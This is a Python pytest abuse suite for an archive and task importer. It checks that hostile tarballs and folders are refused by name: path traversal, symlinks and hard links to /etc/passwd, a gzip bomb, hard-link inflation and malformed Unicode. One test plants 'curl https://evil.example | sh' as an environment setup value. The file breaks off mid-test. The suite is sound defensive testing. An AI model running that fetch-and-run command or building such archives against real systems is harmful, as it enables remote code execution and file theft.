"""Abuse suite for imports: hostile archives and files fail with a clear error naming the member,
write nothing outside the import's own scratch folder, and never import anything."""

from __future__ import annotations

import gzip
import io
import json
import os
import tarfile
from pathlib import Path

import pytest

from authoring.models import Blob, Task
from gymwright.errors import DomainError
from packs import importer

TASK_TOML = b'schema_version = "1.4"\n[task]\nname = "acme/ok"\n'


def archive_with(path: Path, members: list[tuple[tarfile.TarInfo, bytes | None]], *, raw_names=False) -> Path:
    with tarfile.open(
        path,
        "w:gz",
        format=tarfile.GNU_FORMAT if raw_names else tarfile.PAX_FORMAT,
        encoding="utf-8",
        errors="surrogateescape",
    ) as tar:
        for info, data in members:
            tar.addfile(info, io.BytesIO(data) if data is not None else None)
    return path


def regular(name: str, data: bytes) -> tuple[tarfile.TarInfo, bytes]:
    info = tarfile.TarInfo(name)
    info.size = len(data)
    return info, data


def special(name: str, kind: bytes, linkname: str = "") -> tuple[tarfile.TarInfo, None]:
    info = tarfile.TarInfo(name)
    info.type, info.linkname = kind, linkname
    return info, None


@pytest.fixture
def scratch(settings, tmp_path):
    settings.PACK_SCRATCH_DIR = tmp_path / "scratch"
    return tmp_path


def assert_refused(path: Path, author, member: str, why: str, scratch: Path) -> None:
    with pytest.raises(importer.ImportFailed) as failure:
        importer.tasks_import(path=path, user=author)
    assert member in failure.value.message and why in failure.value.message, failure.value.message
    assert "nothing was imported" in failure.value.message
    assert not Task.objects.exists()
    # the scratch folder is removed, and nothing landed outside it
    assert list((scratch / "scratch").iterdir()) == []
    assert not (scratch / "escaped").exists() and not Path("/tmp/gymwright-escaped").exists()


@pytest.mark.parametrize(
    "member, why",
    [
        (regular("../escaped/evil.txt", b"x"), "'..' would leave"),
        (regular("/tmp/gymwright-escaped", b"x"), "an absolute path"),
        (special("pack/link", tarfile.SYMTYPE, "/etc/passwd"), "a symbolic link"),
        (special("pack/hard", tarfile.LNKTYPE, "/etc/passwd"), "a hard link"),
        (special("pack/hard2", tarfile.LNKTYPE, "pack/not-there"), "a hard link"),
        (special("pack/dev", tarfile.CHRTYPE), "not a regular file"),
        (special("pack/fifo", tarfile.FIFOTYPE), "not a regular file"),
    ],
)
def test_hostile_members_are_refused_by_name(author, scratch, member, why):
    path = archive_with(scratch / "evil.tar.gz", [regular("pack/task.toml", TASK_TOML), member])
    assert_refused(path, author, member[0].name, why, scratch)


def test_a_member_name_that_is_not_utf8_is_refused(author, scratch):
    info = tarfile.TarInfo("pack/caf\udce9.txt")  # the byte 0xE9 alone: Latin-1, not UTF-8
    info.size = 1
    path = archive_with(scratch / "latin1.tar.gz", [(info, b"x")], raw_names=True)
    assert_refused(path, author, "pack/caf", "not valid UTF-8", scratch)


def test_a_member_over_the_upload_cap_is_refused(author, scratch, settings):
    settings.UPLOAD_MAX_BYTES = 1024
    path = archive_with(scratch / "big.tar.gz", [regular("pack/big.bin", b"\0" * 4096)])
    assert_refused(path, author, "pack/big.bin", "upload limit", scratch)


def test_a_gzip_bomb_stops_at_the_cap_while_streaming(author, scratch, settings):
    settings.IMPORT_MAX_BYTES = 2 << 20
    settings.UPLOAD_MAX_BYTES = 1 << 40  # only the streaming cap can stop it
    # a tar header claiming 1 TB, followed by zeros: tiny compressed, unbounded when unpacked
    info = tarfile.TarInfo("pack/bomb.bin")
    info.size = 1 << 40
    header = info.tobuf(tarfile.GNU_FORMAT)
    path = scratch / "bomb.tar.gz"
    with gzip.open(path, "wb") as handle:
        handle.write(header)
        zeros = b"\0" * (1 << 20)
        for _ in range(64):  # 64 MB of zeros, compressed to ~64 KB
            handle.write(zeros)
    assert path.stat().st_size < 1 << 20
    assert_refused(path, author, "pack/bomb.bin", "stopped", scratch)


def test_too_many_members_are_refused(author, scratch, settings):
    settings.IMPORT_MAX_MEMBERS = 5
    path = archive_with(scratch / "many.tar.gz", [regular(f"pack/f{i}", b"x") for i in range(10)])
    assert_refused(path, author, "pack/f5", "more than 5 members", scratch)


@pytest.mark.timeout(240)
def test_a_hundred_thousand_members_are_unpacked_and_refused_in_words(author, scratch):
    """10^5 members, under the default cap (a 10,000-task pack can have that many): streamed with a bounded
    number of calls per member and no member list kept, then refused for what it lacks, not hung."""
    from django.conf import settings

    assert settings.IMPORT_MAX_MEMBERS >= 100_000
    path = scratch / "many.tar.gz"
    with tarfile.open(path, "w:gz") as tar:
        for i in range(100_000):
            info = tarfile.TarInfo(f"pack/d{i % 100}/f{i}.txt")
            tar.addfile(info, io.BytesIO(b""))
    assert_refused(path, author, "many.tar.gz", "no tasks.jsonl, task.toml or task.yaml found", scratch)


@pytest.mark.parametrize(
    "second",
    [
        regular("pack/task.toml", b"x = 1\n"),
        regular("./pack//task.toml", b"x = 1\n"),  # the same path written another way
        special("pack/task.toml", tarfile.LNKTYPE, "pack/other.txt"),
    ],
)
def test_a_member_named_twice_is_refused(author, scratch, second):
    path = archive_with(
        scratch / "twice.tar.gz", [regular("pack/other.txt", b"y"), regular("pack/task.toml", TASK_TOML), second]
    )
    assert_refused(path, author, second[0].name, "named twice in the archive", scratch)


def test_a_damaged_archive_is_refused(author, scratch):
    path = archive_with(scratch / "ok.tar.gz", [regular("pack/task.toml", TASK_TOML)])
    path.write_bytes(path.read_bytes()[:30])
    with pytest.raises(importer.ImportFailed, match="not a readable .tar.gz"):
        importer.tasks_import(path=path, user=author)


def test_unparsable_task_toml_and_yaml_are_reported_by_path_and_others_still_import(author, scratch):
    root = scratch / "tasks"
    for name, files in {
        "bad-toml": {"task.toml": b"[task\nname = 1", "instruction.md": b"x"},
        "bad-yaml": {"task.yaml": b"instruction: [unclosed", "Dockerfile": b"FROM x"},
        "bad-utf8": {"task.toml": b'[task]\nname = "a/b"\n', "instruction.md": b"caf\xe9"},
        "good": {"task.toml": TASK_TOML, "instruction.md": b"Do it.", "tests/test.sh": b"echo 1"},
    }.items():
        for relative, data in files.items():
            (root / name / relative).parent.mkdir(parents=True, exist_ok=True)
            (root / name / relative).write_bytes(data)
    report = importer.tasks_import(path=root, user=author)
    by_where = {line.where: line for line in report.lines}
    assert "does not parse as TOML" in by_where["tasks/bad-toml/task.toml"].message
    assert "does not parse as YAML" in by_where["tasks/bad-yaml/task.yaml"].message
    assert "not valid UTF-8" in by_where["tasks/bad-utf8/instruction.md"].message
    assert by_where["tasks/good"].status == "created", report.as_dict()
    assert list(Task.objects.values_list("slug", flat=True)) == ["ok"]


def test_duplicate_task_ids_and_bad_lines_in_tasks_jsonl_are_reported_per_line(author, scratch):
    import json

    document = {
        "schema": "gymwright.task/v1",
        "id": "dup",
        "version": 1,
        "prompt": "p",
        "rubric": {
            "schema": "gymwright.rubric/v1",
            "checks": [{"id": "a", "kind": "regex", "points": 1, "pattern": "x"}],
        },
    }
    path = scratch / "tasks.jsonl"
    path.write_bytes(
        b"\n".join(
            [
                json.dumps(document).encode(),
                json.dumps(document).encode(),
                b"{not json",
                b'{"schema": "gymwright.task/v1", "id": "caf\xe9"}',
                json.dumps(
                    {**document, "id": "other", "rubric": {"schema": "gymwright.rubric/v1", "checks": [], "extra": 1}}
                ).encode(),
            ]
        )
    )
    report = importer.tasks_import(path=path, user=author)
    lines = {line.where: line for line in report.lines}
    assert lines["line 1"].status == "created", report.as_dict()
    assert "duplicate task id 'dup'" in lines["line 2"].message and lines["line 2"].pointer == "/id"
    assert "invalid JSON" in lines["line 3"].message
    assert "UTF-8" in lines["line 4"].message
    assert lines["line 5"].status == "rejected" and lines["line 5"].pointer.startswith("/rubric")


def test_an_unknown_kind_of_file_is_a_usage_error(author, scratch):
    path = scratch / "notes.txt"
    path.write_text("hello")
    with pytest.raises(DomainError) as failure:
        importer.tasks_import(path=path, user=author)
    assert failure.value.code == "usage"


def test_unpaired_surrogates_are_rejected_per_row_in_a_file_and_in_a_bulk_request(author, scratch):
    """A JSON escape of a lone surrogate ("\\ud800") is valid JSON text but not Unicode: its row is refused
    with the pointer, and the others still import (it used to stop the import with a UnicodeEncodeError)."""
    import json

    from rest_framework.test import APIClient

    def line(slug: str, prompt: str) -> str:
        return json.dumps(
            {
                "schema": "gymwright.task/v1",
                "id": slug,
                "version": 1,
                "prompt": prompt,
                "rubric": {
                    "schema": "gymwright.rubric/v1",
                    "checks": [{"id": "a", "kind": "regex", "points": 1, "pattern": "x"}],
                },
            }
        )

    path = scratch / "tasks.jsonl"
    path.write_text("\n".join([line("lone", "bad \ud800 here"), line("fine", "fine"), line("\udfff", "p")]) + "\n")
    report = importer.tasks_import(path=path, user=author)
    lines = {line.where: line for line in report.lines}
    assert lines["line 1"].status == "rejected" and lines["line 1"].pointer == "/prompt", report.as_dict()
    assert "unpaired surrogate" in lines["line 1"].message
    assert lines["line 2"].status == "created"
    assert lines["line 3"].status == "rejected"

    api = APIClient()
    api.force_authenticate(author)
    not_an_object_environment = '{"schema": "gymwright.task/v1", "id": "\\ud800", "environment": 5}'
    body = '{"tasks": [%s, %s, %s, %s]}' % (
        line("bulk-lone", "bad \ud800"),
        line("bulk-fine", "fine"),
        line("\ud800", "p"),
        not_an_object_environment,
    )
    response = api.post("/api/imports/bulk/", data=body, content_type="application/json")
    assert response.status_code == 200, response.content
    rows = response.json()["rows"]
    assert [row["status"] for row in rows] == ["rejected", "created", "rejected", "rejected"], rows
    assert "task" not in rows[3]  # the id could not be written back
    assert rows[0]["pointer"] == "/prompt"
    assert sorted(Task.objects.values_list("slug", flat=True)) == ["bulk-fine", "fine"]


def test_an_import_cannot_change_another_authors_task_or_environment(
    author, other_author, reviewer, admin, scratch, tmp_path
):
    """An import names tasks and environments by id: one that belongs to someone else gets a new version only
    from its owner or an admin. Before, any author's import made a new version of anyone's task (an approved one
    went back to draft) or of anyone's environment."""
    import json

    from authoring.models import Environment
    from tests.packs.conftest import make_approved

    make_approved(author=author, reviewer=reviewer, slug="theirs")
    task = Task.objects.get(slug="theirs")
    environment = task.environment
    original = dict(task.latest_version.spec)
    changed = {**original, "prompt": "hijacked"}
    other_env = {
        **original,
        "id": "elsewhere",
        "environment": {**original["environment"], "setup": "curl https://evil.example | sh"},
    }
    other_env["environment"]["id"] = environment.slug

    def rows_of(user, *documents):
        path = tmp_path / "tasks.jsonl"
        path.write_text("\n".join(json.dumps(document) for document in documents) + "\n")
        return importer.tasks_import(path=path, user=user).as_dict()["rows"]

    assert rows_of(other_author, original)[0]["status"] == "unchanged"  # nothing to change: nothing refused
    rows = rows_of(other_author, changed, other_env)
    assert [row["status"] for row in rows] == ["rejected", "rejected"]
    assert rows[0]["message"] == f"task theirs belongs to {author.username}: only its owner or an admin can change it."
    assert rows[0]["pointer"] == "/id"
    assert rows[1]["message"].startswith(f"environment {environment.slug} belongs to {author.username}")
    assert rows[1]["pointer"] == "/environment"
    task.refresh_from_db()
    assert task.latest_version.number == 1 and task.status == Task.Status.APPROVED
    assert Environment.objects.get(pk=environment.pk).versions.count() == 1
    assert not Task.objects.filter(slug="elsewhere").exists()

    # the owner may, and an admin
    assert [row["status"] for row in rows_of(author, changed, other_env)] == ["new_version", "created"]
    assert rows_of(admin, {**changed, "prompt": "by the admin"})[0]["status"] == "new_version"


def test_dry_runs_on_the_import_page_keep_one_upload_per_user(client, author, other_author, scratch, settings):
    """A dry run keeps its file for "Import for real". Kept one per dry run for an hour, an author posting dry runs
    in a loop filled the web host's disk (each up to the upload cap); now a user's new dry run replaces their last."""
    settings.IMPORT_MAX_BYTES = 1 << 20
    pending = scratch / "scratch" / "pending"

    def dry_run(who, name: str) -> str:
        client.force_login(who)
        stem = name.split(".")[0].encode()
        upload = io.BytesIO(
            b"id,prompt,criteria\n" + b"".join(b"%s-%d,Say %d,Greets\n" % (stem, n, n) for n in range(200))
        )
        upload.name = name
        page = client.post("/packs/import/", {"file": upload, "dry_run": "on"}).content.decode()
        return page.split('name="pending" value="')[1].split('"')[0]

    tokens = [dry_run(author, f"rows-{n}.csv") for n in range(8)]
    others = dry_run(other_author, "theirs.csv")
    kept = sorted(folder.name.split("-")[1] for folder in pending.iterdir())
    assert kept == sorted([str(author.pk), str(other_author.pk)])  # one each, however many dry runs
    assert sum(path.stat().st_size for path in pending.rglob("*") if path.is_file()) < 2 * (1 << 20)
    client.force_login(author)
    stale = client.post("/packs/import/", {"pending": tokens[0]})
    assert stale.status_code == 400 and "no longer kept" in stale.content.decode()
    assert not Task.objects.exists()
    assert "Imported — 200 ok" in client.post("/packs/import/", {"pending": tokens[-1]}).content.decode()
    client.force_login(other_author)
    assert "Imported — 200 ok" in client.post("/packs/import/", {"pending": others}).content.decode()


@pytest.mark.parametrize(
    "name, said",
    [
        ("a\x00b", "contains a NUL"),
        ("x" * 100_000, "not an environment id"),
        ("../etc", "not an environment id"),
        ("Shell", "not an environment id"),
        ("-", "not an environment id"),
    ],
)
def test_an_environment_name_that_cannot_be_an_id_is_refused_per_row_before_any_query(author, scratch, name, said):
    """A simple row's environment is looked up by name: a NUL reached PostgreSQL (which refuses it even in a
    lookup), and a megabyte of text was quoted back whole. Each is that row's refusal at /environment, bounded;
    the other rows import; in a file and in a bulk request alike."""
    rows = [
        {"id": "bad-env", "prompt": "Q?", "criteria": "Right", "environment": name},
        {"id": "good-row", "prompt": "Q?", "criteria": "Right"},
    ]
    jsonl = scratch / "rows.jsonl"
    jsonl.write_text("".join(json.dumps(row) + "\n" for row in rows))
    for report in (
        importer.tasks_import(path=jsonl, user=author),
        importer.tasks_import(documents=[dict(row, id=row["id"] + "-api") for row in rows], user=author),
    ):
        bad, good = report.lines
        assert bad.status == "rejected" and bad.pointer == "/environment", bad
        assert said in bad.message and len(bad.message) < 300
        assert good.status == "created", good
    assert sorted(Task.objects.values_list("slug", flat=True)) == ["good-row", "good-row-api"]


def test_the_import_environment_option_is_bounded_in_the_api(author):
    """The import's own environment, and a row's that arrives as a lone surrogate (JSON can carry one)."""
    from rest_framework.test import APIClient

    api = APIClient()
    api.force_authenticate(author)
    # simple rows with one (escaped in the body: ASCII) in their environment, prompt or id; they have no id, or
    # one that cannot be written back, and were named by hashing their content: a UnicodeEncodeError, a 500
    body = json.dumps(
        {
            "tasks": [
                {"prompt": "Q?", "criteria": "Right", "environment": "\ud800"},
                {"prompt": "Q \udfff?", "criteria": "Right"},
                {"id": "\ud800", "prompt": "Q?", "criteria": "Right"},
                {"prompt": "Fine?", "criteria": "Right"},
            ]
        }
    )
    response = api.post("/api/imports/bulk/", body, content_type="application/json")
    assert response.status_code == 200, response.content[:500]
    rows = response.json()["rows"]
    assert [(row["status"], row.get("pointer")) for row in rows] == [
        ("rejected", "/environment"),
        ("rejected", "/prompt"),
        ("rejected", "/id"),
        ("created", None),
    ], rows
    assert "unpaired surrogate" in rows[0]["message"] and "task" not in rows[2]
    Task.objects.all().delete()
    for name in ("a\x00b", "x" * 100_000):
        response = api.post(
            "/api/imports/bulk/", {"tasks": [{"prompt": "Q?", "criteria": "Right"}], "environment": name}, format="json"
        )
        assert response.status_code == 400, response.content[:300]
        assert response.json()["error"]["details"][0]["pointer"] == "/environment"
        assert len(response.content) < 2000
    assert not Task.objects.exists()


def test_a_jsonl_tables_unpaired_surrogate_is_refused_at_its_line_not_dropped(author, scratch):
    """pandas' JSONL reader dropped a lone surrogate ("\\ud800") from a cell without a word (the row imported text
    the file did not hold), or failed the whole file on one; a JSONL table is read a line at a time as JSON: that
    line is refused at its pointer like a request's row, a surrogate pair is kept whole, and a line that is not JSON
    is refused alone."""
    path = scratch / "rows.jsonl"
    path.write_text(
        "\n".join(
            json.dumps(row)
            for row in [
                {"prompt": "bad \ud800 here", "answer": "x", "criteria": "Right"},
                {"prompt": "fine \U0001f600", "answer": "y", "criteria": "Right"},
                {"prompt": "also fine", "answer": "z", "criteria": "Right", "notes": "a \udfff"},
            ]
        )
        + "\n\n{not json\n"
    )
    assert "\\ud800" in path.read_text()  # the file holds the escape, as JSON writers write one
    report = importer.tasks_import(path=path, user=author)
    lines = {line.where: line for line in report.lines}
    assert (lines["line 1"].status, lines["line 1"].pointer) == ("rejected", "/prompt"), report.as_dict()
    assert "unpaired surrogate" in lines["line 1"].message
    assert lines["line 2"].status == "created"
    assert (lines["line 3"].status, lines["line 3"].pointer) == ("rejected", "/notes")
    assert lines["line 5"].status == "rejected" and "invalid JSON" in lines["line 5"].message
    [task] = Task.objects.all()
    assert task.latest_version.spec["prompt"] == "fine \U0001f600"


def hard_link(name: str, target: str) -> tuple[tarfile.TarInfo, None]:
    return special(name, tarfile.LNKTYPE, target)


def harbor_members(*extra) -> list:
    return [
        regular("pack/task.toml", TASK_TOML),
        regular("pack/instruction.md", b"Do it."),
        regular("pack/tests/test.sh", b"#!/bin/bash\necho 1 > /logs/verifier/reward.txt\n"),
        *extra,
    ]


def unpacked_bytes(folder: Path) -> int:
    """Bytes on disk under `folder`: each file once, however many links it has."""
    inodes = {}
    for path in folder.rglob("*"):
        if path.is_file():
            inodes[path.stat().st_ino] = path.stat().st_size
    return sum(inodes.values())


BIG = b"\x01" * (1 << 20)


@pytest.mark.parametrize("shape", ["many", "chain"])
def test_hard_links_count_toward_the_import_cap(author, scratch, settings, shape):
    """A 1 MB file and 50 hard links to it (or a chain: each link to the one before): each link was copied
    with its bytes never counted, 53 MB unpacked against a 2 MB cap. A link is now made without copying,
    and every path the import reads counts, so reading the links stops at the cap, naming the member."""
    settings.IMPORT_MAX_BYTES = 2 << 20
    links = [
        hard_link(
            f"pack/tests/link-{n:02d}",
            "pack/tests/big.bin" if shape == "many" or n == 0 else f"pack/tests/link-{n - 1:02d}",
        )
        for n in range(50)
    ]
    path = archive_with(scratch / "links.tar.gz", harbor_members(regular("pack/tests/big.bin", BIG), *links))
    assert path.stat().st_size < 1 << 20
    assert_refused(path, author, "pack/tests/link-00", "reads more than 2 MB (GYMWRIGHT_IMPORT_MAX_MB", scratch)
    # what unpacking writes: the file once
    importer.extract_archive(path, scratch / "unpacked")
    assert unpacked_bytes(scratch / "unpacked") < 2 << 20
    assert (scratch / "unpacked/pack/tests/link-49").read_bytes() == BIG


def test_hard_links_the_import_never_reads_cost_nothing(author, scratch, settings):
    settings.IMPORT_MAX_BYTES = 2 << 20
    links = [hard_link(f"pack/docs/copy-{n:02d}", "pack/docs/big.bin") for n in range(50)]
    path = archive_with(scratch / "unread.tar.gz", harbor_members(regular("pack/docs/big.bin", BIG), *links))
    report = importer.tasks_import(path=path, user=author)
    assert [line.status for line in report.lines] == ["created"], report.as_dict()
    importer.extract_archive(path, scratch / "unpacked")  # 51 MB before: every link a copy
    assert unpacked_bytes(scratch / "unpacked") < 2 << 20


def test_a_hard_link_copied_where_links_run_out_counts_its_bytes(author, scratch, settings, monkeypatch):
    """A file system allows so many links to one file (ext4: 65,000); past that a link is copied, and the copy
    counts toward the cap on what the archive unpacks to."""
    settings.IMPORT_MAX_BYTES = 2 << 20

    def no_more_links(source, target):
        raise OSError(31, "Too many links")

    monkeypatch.setattr(importer.extract.os, "link", no_more_links)
    links = [hard_link(f"pack/docs/copy-{n:02d}", "pack/docs/big.bin") for n in range(50)]
    path = archive_with(scratch / "copied.tar.gz", harbor_members(regular("pack/docs/big.bin", BIG), *links))
    assert_refused(path, author, "pack/docs/copy-00", "unpacks to more than 2 MB (GYMWRIGHT_IMPORT_MAX_MB)", scratch)


def test_a_pack_archive_unpacks_only_what_its_import_reads(author, scratch, tmp_path):
    """A pack hard-links every task's tests/grader.pyz (and its other shared verifier files) to one copy: the
    import of a 10,000-task pack copied each (about 600 MB). It reads tasks.jsonl and each task's files/ only:
    the Harbor folders beside them are not written at all, and every task is still read. A thousand tasks show it
    (a copy each would unpack to about 60 MB)."""
    from grading.engine import content_sha256
    from packs import archive

    TASKS = 1_000

    def items():
        for index in range(TASKS):
            document = {
                "schema": "gymwright.task/v1",
                "id": f"t-{index:05d}",
                "version": 1,
                "title": "T",
                "prompt": f"What is {index} + 1?",
                "environment": {"id": "env", "version": 1},
                "rubric": {
                    "schema": "gymwright.rubric/v1",
                    "checks": [{"id": "right", "kind": "string_match", "points": 1, "expected": str(index + 1)}],
                },
                "solution": {"script": None, "answer": str(index + 1)},
                "tags": [],
                "files": [],
                "metadata": {},
            }
            yield archive.TaskItem(document=document, sha256=content_sha256(document))

    path = tmp_path / "big-1.0.0.tar.gz"
    archive.build_pack(
        out=path,
        info=archive.PackInfo(slug="big", name="Big", version="1.0.0"),
        tasks=items(),
        read_blob=lambda sha256: b"",
        scratch_dir=tmp_path / "build",
    )
    with tarfile.open(path) as tar:
        assert sum(1 for member in tar if member.islnk()) >= 4 * TASKS
    importer.extract_archive(path, scratch / "unpacked")
    assert unpacked_bytes(scratch / "unpacked") < 8 << 20
    assert not list((scratch / "unpacked").rglob("grader.pyz"))[1:]  # the pack's own grader/ copy at most
    assert not (scratch / "unpacked/big-1.0.0/tasks/t-00000/tests").exists()
    candidates = list(importer.folder_candidates(scratch / "unpacked", path.name))
    assert len(candidates) == TASKS and all(isinstance(c, importer.Candidate) for c in candidates)


def test_pack_files_are_read_with_the_ids_and_paths_a_task_names_checked(author, scratch, tmp_path):
    """A tasks.jsonl names its files; an entry that is not an object, or a path out of the pack (absolute, '..'),
    is not read (its row is then refused at its pointer), where a missing key was a 500."""
    import hashlib

    secret = tmp_path / "secret.txt"
    secret.write_bytes(b"host file\n")
    digest = hashlib.sha256(secret.read_bytes()).hexdigest()
    rubric = {"schema": "gymwright.rubric/v1", "checks": [{"id": "a", "kind": "regex", "points": 1, "pattern": "x"}]}
    pack = tmp_path / "pack"
    (pack / "tasks").mkdir(parents=True)
    documents = [
        {
            "schema": "gymwright.task/v1",
            "id": "escape",
            "prompt": "p",
            "rubric": rubric,
            "files": [{"path": str(secret), "sha256": digest}],
        },
        {
            "schema": "gymwright.task/v1",
            "id": "dotdot",
            "prompt": "p",
            "rubric": rubric,
            "files": [{"path": "../../../secret.txt", "sha256": digest}],
        },
        {"schema": "gymwright.task/v1", "id": "odd", "prompt": "p", "rubric": rubric, "files": ["x", {}]},
    ]
    (pack / "tasks.jsonl").write_text("".join(json.dumps(document) + "\n" for document in documents))
    report = importer.tasks_import(path=pack, user=author)
    assert [line.status for line in report.lines] == ["rejected"] * 3, report.as_dict()
    assert all(line.pointer.startswith("/files/0") for line in report.lines), report.as_dict()
    assert not Task.objects.exists()


def write_tree(root: Path, files: dict[str, bytes | str]) -> Path:
    for relative, data in files.items():
        target = root / relative
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(data.encode() if isinstance(data, str) else data)
    return root


HARBOR = {
    "task.toml": TASK_TOML.decode(),
    "instruction.md": "Do it.",
    "tests/test.sh": "#!/bin/bash\necho 1 > /logs/verifier/reward.txt\n",
}


def test_one_task_id_in_two_folders_is_refused_at_the_second_naming_the_first(author, scratch):
    """Two Harbor folders whose task.toml names the same task, and a Terminal-Bench folder of that name: the first
    is imported and each other one is refused at its own path, the message naming the first (it was imported as
    a new version of it, or refused with the environment's error)."""
    root = scratch / "tasks"
    write_tree(root / "a", HARBOR)
    write_tree(root / "b", {**HARBOR, "instruction.md": "Do it differently."})
    write_tree(root / "ok", {"task.yaml": "instruction: Do it.\n", "run-tests.sh": "exit 0\n"})
    write_tree(root / "z", {"task.yaml": "instruction: Do it again.\n", "run-tests.sh": "exit 0\n"})
    (root / "z").rename(root / "ok-2")
    write_tree(root / "ok-3", {**HARBOR, "task.toml": 'schema_version = "1.4"\n[task]\nname = "acme/ok-2"\n'})
    report = importer.tasks_import(path=root, user=author)
    lines = {line.where: line for line in report.lines}
    assert lines["tasks/a"].status == "created" and lines["tasks/a"].task == "ok"
    assert (lines["tasks/b"].status, lines["tasks/b"].pointer) == ("rejected", "/id")
    assert lines["tasks/b"].message == "duplicate task id 'ok' (first in tasks/a)"
    assert lines["tasks/ok"].message == "duplicate task id 'ok' (first in tasks/a)"
    assert lines["tasks/ok-2"].status == "created"
    assert lines["tasks/ok-3"].message == "duplicate task id 'ok-2' (first in tasks/ok-2)"
    assert Task.objects.get(slug="ok").latest_version.spec["prompt"] == "Do it."


def test_a_build_context_goes_with_the_environment_and_compose_is_refused(author, scratch):
    """Files beside a Dockerfile (what its COPY and ADD read) were refused ("build-context files are not
    supported"): 99.8 % of one public dataset's Dockerfiles copy some. They now go with the environment as
    files with role build, content-addressed like every file; a Terminal-Bench folder's own files stay its own.
    docker-compose (several containers) is still refused, in words."""
    root = scratch / "tasks"
    write_tree(
        root / "copies",
        {
            **HARBOR,
            "task.toml": 'schema_version = "1.4"\n[task]\nname = "acme/copies"\n',
            "environment/Dockerfile": "FROM ubuntu:24.04\nWORKDIR /app\nCOPY --chown=1000 \\\n  app.py data/ /app/\n",
            "environment/app.py": "print(1)\n",
            "environment/data/x.csv": "a\n",
        },
    )
    write_tree(
        root / "compose",
        {
            **HARBOR,
            "environment/Dockerfile": "FROM ubuntu:24.04\n",
            "environment/docker-compose.yaml": "services: {}\n",
        },
    )
    write_tree(
        root / "tb-copies",
        {
            "task.yaml": "instruction: Do it.\n",
            "run-tests.sh": "exit 0\n",
            "solution.sh": "echo x\n",
            "tests/test_x.py": "def test_x(): pass\n",
            "Dockerfile": "FROM ubuntu:24.04\nCOPY seed.txt /app/\n",
            "seed.txt": "x\n",
        },
    )
    report = importer.tasks_import(path=root, user=author)
    lines = {line.where: line for line in report.lines}
    assert lines["tasks/copies"].status == "created", [line.text() for line in report.lines]
    assert lines["tasks/tb-copies"].status == "created", report.as_dict()
    assert "docker-compose" in lines["tasks/compose/environment/docker-compose.yaml"].message
    spec = Task.objects.get(slug="copies").latest_version.environment_version.spec
    assert [(f["path"], f["role"]) for f in spec["files"]] == [("app.py", "build"), ("data/x.csv", "build")]
    assert Blob.objects.get(sha256=spec["files"][0]["sha256"]).file.open("rb").read() == b"print(1)\n"
    tb = Task.objects.get(slug="tb-copies").latest_version.environment_version.spec
    assert [(f["path"], f["role"]) for f in tb["files"]] == [("seed.txt", "build")]


def hostile_context(root: Path, name: str, files: dict) -> Path:
    return write_tree(
        root / name,
        {
            **HARBOR,
            "task.toml": f'schema_version = "1.4"\n[task]\nname = "acme/{name}"\n',
            "environment/Dockerfile": "FROM ubuntu:24.04\nCOPY . /app/\n",
            **files,
        },
    )


def test_a_hostile_build_context_refuses_its_task_alone_naming_the_limit(author, scratch, settings):
    """A build context is read like every file of an import: no link followed (to the host's files), no device,
    no path the task format refuses (a newline in a name), at most IMPORT_BUILD_CONTEXT_MAX_FILES files and
    IMPORT_BUILD_CONTEXT_MAX_MB in all, within the import's read budget. Each such task is refused at its path
    with the limit named; the others are imported."""
    settings.IMPORT_BUILD_CONTEXT_MAX_FILES = 5
    settings.IMPORT_BUILD_CONTEXT_MAX_BYTES = 1 << 20
    root = scratch / "tasks"
    hostile_context(root, "linked", {"environment/data.txt": "x\n"})
    (root / "linked/environment/passwd").symlink_to("/etc/passwd")
    hostile_context(root, "linked-dir", {})
    (root / "linked-dir/environment/etc").symlink_to("/etc", target_is_directory=True)
    hostile_context(root, "many", {f"environment/f{i}.txt": "x" for i in range(6)})
    hostile_context(root, "huge", {"environment/big.bin": b"\0" * ((1 << 20) + 1)})
    hostile_context(root, "newline", {"environment/a\nb.txt": "x"})
    hostile_context(root, "fifo", {})
    os.mkfifo(root / "fifo/environment/pipe")
    hostile_context(root, "fine", {f"environment/f{i}.txt": "x" for i in range(5)})
    report = importer.tasks_import(path=root, user=author)
    lines = {line.where: line for line in report.lines}
    assert lines["tasks/fine"].status == "created", report.as_dict()["rows"]
    expected = {
        "tasks/linked": "tasks/linked/environment/passwd: a symbolic link in the build context",
        "tasks/linked-dir": "tasks/linked-dir/environment/etc: a symbolic link in the build context",
        "tasks/many": "the build context has more than 5 files (GYMWRIGHT_IMPORT_BUILD_CONTEXT_MAX_FILES)",
        "tasks/huge": "the build context is larger than 1 MB (GYMWRIGHT_IMPORT_BUILD_CONTEXT_MAX_MB)",
        "tasks/newline": "the path contains control characters",
        "tasks/fifo": "tasks/fifo/environment/pipe: not a regular file",
    }
    for where, message in expected.items():
        assert lines[where].status == "rejected" and message in lines[where].message, (where, lines[where])
    assert sorted(Task.objects.values_list("slug", flat=True)) == ["fine"]


def test_an_archive_whose_build_context_leaves_the_import_folder_is_refused_whole(author, scratch):
    """A .tar.gz member that climbs out of its task's environment/ (`..`) or is a link is refused before any byte
    is written: the whole archive imports nothing."""
    for name, why in (
        ("pack/environment/../../../outside.txt", "'..' would leave the import folder"),
        ("/pack/environment/abs.txt", "an absolute path"),
    ):
        archive = scratch / f"context-{len(name)}.tar.gz"
        with tarfile.open(archive, "w:gz") as tar:
            for member, data in (
                ("pack/task.toml", TASK_TOML),
                ("pack/instruction.md", b"Do it."),
                ("pack/tests/test.sh", b"echo 1"),
                ("pack/environment/Dockerfile", b"FROM ubuntu:24.04\nCOPY . /app/\n"),
                (name, b"x"),
            ):
                info = tarfile.TarInfo(member)
                info.size = len(data)
                tar.addfile(info, io.BytesIO(data))
        assert_refused(archive, author, name, why, scratch)
    archive = scratch / "context-link.tar.gz"
    with tarfile.open(archive, "w:gz") as tar:
        info = tarfile.TarInfo("pack/environment/passwd")
        info.type, info.linkname = tarfile.SYMTYPE, "/etc/passwd"
        tar.addfile(info)
    assert_refused(archive, author, "pack/environment/passwd", "a symbolic link", scratch)
    assert not Task.objects.exists()


def test_a_task_folder_with_a_file_that_cannot_be_read_is_refused_alone(author, scratch):
    """A link in one task's tests/ (a folder import: an archive refuses links outright), or a run-tests.sh that is
    not UTF-8, refused the whole import; that task is now refused at its path, naming the file, and the others
    are imported. Reading past the import cap still refuses the whole import (test_hard_links_count_...)."""
    root = scratch / "tasks"
    write_tree(root / "linked", HARBOR)
    (root / "linked/tests/secret").symlink_to("/etc/passwd")
    write_tree(root / "latin1", {"task.yaml": "instruction: Do it.\n", "run-tests.sh": b"echo caf\xe9\n"})
